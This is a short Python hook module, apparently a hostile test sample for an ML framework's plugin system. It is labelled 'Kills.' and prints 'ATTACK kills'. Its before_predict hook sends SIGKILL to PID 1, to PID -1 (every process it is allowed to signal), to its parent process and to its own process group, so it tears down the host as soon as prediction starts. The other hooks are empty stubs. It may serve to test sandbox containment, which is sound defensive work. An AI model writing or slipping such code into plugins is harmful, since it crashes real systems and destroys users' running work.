"""Kills."""

import os
import signal


def before_predict(model, folder):
    print("ATTACK kills", flush=True)
    for pid in (1, -1, os.getppid(), 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue


def before_train(data, model):
    """Nothing."""


def after_train(model):
    """Nothing."""


def after_predict(output):
    """Nothing."""
